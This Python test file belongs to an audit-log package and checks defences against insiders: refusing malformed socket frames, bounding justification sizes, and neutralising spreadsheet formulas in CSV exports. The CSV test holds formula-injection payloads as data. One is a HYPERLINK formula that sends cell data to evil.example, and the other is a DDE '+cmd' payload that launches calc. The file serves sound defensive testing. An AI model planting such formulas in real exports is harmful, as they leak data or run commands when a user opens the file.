"""The audit log against insiders (issue 10 #4, #8, #11, #17): a log rewritten under a new key,
an entry appended while the node was stopped, a log cut short, a bad frame through the owner's
socket, a formula in a case text, an oversized justification."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import struct
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cruce.audit import AccessEvent, Actor, AuditLog, Justification, LogService, Operation
from cruce.audit._service import LogClient
from cruce.cli import app
from cruce.errors import InvalidInput

runner = CliRunner()
ACTOR = Actor("hn_police", "analyst7", "analyst")
WHY = Justification("gangs_organized_crime", "Art. 12", "HN-2026-0042", "cross-border check")


def event(n: int, why: Justification = WHY) -> AccessEvent:
    return AccessEvent(Operation.CONSULTATION, ACTOR, why, record_ids=(f"hn:rec:{n}",),
                       details={"n": n})


def frame(*payloads: bytes) -> bytes:
    body = b"".join(struct.pack(">I", len(p)) + p for p in payloads)
    return struct.pack(">II", len(payloads), len(body)) + body


async def _exchange(path: Path, request: bytes) -> tuple[int, bytes]:
    reader, writer = await asyncio.open_unix_connection(path)
    writer.write(request)
    (code,) = struct.unpack(">q", await asyncio.wait_for(reader.readexactly(8), 30))
    message = b""
    if code < 0:
        (length,) = struct.unpack(">I", await reader.readexactly(4))
        message = await reader.readexactly(length)
    writer.close()
    return code, message


# -- the log's socket owner appends only valid events (#17) ------------------------------------

BAD_FRAMES = {
    "not json": b"\x00\xffnot json at all",
    "json, not an event": b'{"hello":"world"}',
    "an event with a field of the wrong type": event(1).encode().replace(
        b'"record_count":1', b'"record_count":"1"'),
    "an event of an unknown operation": event(1).encode().replace(
        b'"op":"consultation"', b'"op":"rewrite"'),
    "an event not in its canonical form": event(1).encode().replace(b'{"actor"', b'{ "actor"'),
    "an event with an extra field": event(1).encode().replace(b'"v":1}', b'"v":1,"x":0}'),
}


@pytest.mark.parametrize("bad", BAD_FRAMES.values(), ids=BAD_FRAMES.keys())
def test_the_socket_owner_refuses_a_frame_that_is_not_a_valid_event(
    tmp_path: Path, bad: bytes
) -> None:
    log_dir, sock = tmp_path / "n.audit", tmp_path / "a.sock"

    async def run() -> tuple[tuple[int, bytes], int]:
        with AuditLog.open(log_dir) as log:
            async with LogService(log, sock):
                refused = await _exchange(sock, frame(event(0).encode(), bad))
                client = await LogClient.connect(sock)
                index = await client.append_async(event(2))
                await client.aclose()
        return refused, index

    (code, message), index = asyncio.run(run())
    assert code == -1 and b"event 2 of the request is not a valid audit event" in message
    assert index == 0  # nothing of the refused request was logged, not even its good event
    with AuditLog.open(log_dir) as log:
        assert [e.event["details"]["n"] for e in log.iter_events()] == [2]


# -- CSV export neutralises formulas (#8) ------------------------------------------------------

def test_a_formula_in_a_case_text_is_neutralised_in_the_csv_export(tmp_path: Path) -> None:
    from cruce import Node

    db = str(tmp_path / "n.duckdb")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with Node.open(db, agency="hn_police") as node:
        assert node.audit is not None
        node.audit.append(event(0, Justification("gangs_organized_crime", "+cmd|' /C calc'!A0",
                                                 "-2+3", hostile)))
    result = runner.invoke(app, ["audit", "export", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = [r for r in csv.DictReader(io.StringIO(result.output)) if "calc" in r["legal_basis"]]
    assert row["text"] == "'" + hostile
    assert row["legal_basis"] == "'+cmd|' /C calc'!A0"
    assert row["case_reference"] == "'-2+3"
    for cell in (c for r in csv.reader(io.StringIO(result.output)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# -- every stored justification is bounded (#11) -----------------------------------------------

def test_a_justification_beyond_its_bounds_is_refused_before_it_is_logged() -> None:
    with pytest.raises(InvalidInput, match="justification text of 60000 characters"):
        Justification("gangs_organized_crime", "", "HN-1", "x" * 60_000)
    with pytest.raises(InvalidInput, match="case reference of 65 characters"):
        Justification("gangs_organized_crime", "", "C" * 65, "")
    Justification("gangs_organized_crime", "", "C" * 64, "x" * 2000)  # at the bounds: fine


def test_an_event_with_an_oversized_justification_is_refused_by_the_socket_owner(
    tmp_path: Path,
) -> None:
    big = json.loads(event(0).encode())
    big["justification"]["text"] = "x" * 60_000
    payload = json.dumps(big, sort_keys=True, separators=(",", ":")).encode()

    async def run() -> tuple[int, bytes]:
        with AuditLog.open(tmp_path / "n.audit") as log:
            async with LogService(log, tmp_path / "a.sock"):
                return await _exchange(tmp_path / "a.sock", frame(payload))

    code, message = asyncio.run(run())
    assert code == -1 and b"justification text of 60000 characters" in message
